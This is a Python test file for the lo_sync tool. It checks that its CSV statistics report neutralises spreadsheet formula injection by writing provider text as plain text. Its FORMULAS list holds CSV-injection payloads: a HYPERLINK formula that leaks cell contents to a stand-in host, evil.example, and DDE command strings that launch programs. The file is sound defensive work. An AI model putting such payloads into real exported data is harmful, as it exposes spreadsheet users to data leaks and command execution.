"""The statistics report as CSV: provider text a spreadsheet would run as a formula is
written as text (OWASP's CSV-injection rule); the numbers lo-sync writes stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from lo_sync import sync
from lo_sync.output import Reporter
from lo_sync.report import spreadsheet_cell, statistics_rows, write_csv, write_rows
from tests.helpers.factories import oc_course, oc_progress, provider_config

OC = provider_config("openclassrooms")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the course")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_a_text_cell_that_starts_a_formula_is_written_as_text(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Python for everyone", "1+1=2", "ada@example.com", "", None, 0, -5, -1.5, 42.0]
)
def test_other_cells_and_every_number_are_left_as_they_are(value):
    assert spreadsheet_cell(value) is value


def test_negative_numbers_stay_numbers_and_negative_looking_text_does_not():
    out = io.StringIO()

    write_csv(out, [{"delta": -5, "ratio": -1.5, "note": "-5", "id": "=1"}])

    assert out.getvalue() == "delta,ratio,note,id\n-5,-1.5,'-5,'=1\n"


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own():
    out = io.StringIO()

    write_csv(out, [{"title": "Intro\r=cmd|' /C calc'!A0", "n": 1}, {"title": "b\nc", "n": 2}])

    assert out.getvalue() == 'title,n\n"Intro\r=cmd|\' /C calc\'!A0",1\n"b\nc",2\n'


def _report_csv(store, course: str | None) -> list[list[str]]:
    out = io.StringIO()
    write_rows(Reporter(stdout=out), statistics_rows(store, ("openclassrooms",), course), "csv", "")
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_stats_csv_neutralises_formulas_that_came_from_the_provider(store):
    courses = [oc_course(i, title=title) for i, title in enumerate(FORMULAS, 1)]
    courses.append(oc_course(99, title="Plain title"))
    plan = sync.plan_catalog(store, OC, [courses])
    sync.apply_catalog(store, OC, plan, "2026-11-23T03:00:00Z")
    records = [oc_progress(i, f"learner{i}@x.io", userId=f"=1+{i}") for i in range(1, 7)]
    records.append(oc_progress(99, "plain@x.io", userId=7))
    plan = sync.plan_stats(store, OC, [records])
    sync.apply_stats(store, OC, plan, "2026-11-23T03:20:00Z", False)

    per_course = _report_csv(store, None)
    per_learner = _report_csv(store, "1")

    titles = [row[2] for row in per_course[1:]]
    assert titles == ["'" + text for text in FORMULAS] + ["Plain title"]
    assert per_course[1][3:] == ["0", "1", "0", "40.0", "48.0"]  # the numbers, as numbers
    header = per_learner[0]
    assert per_learner[1][header.index("learner_id")] == "'=1+1"
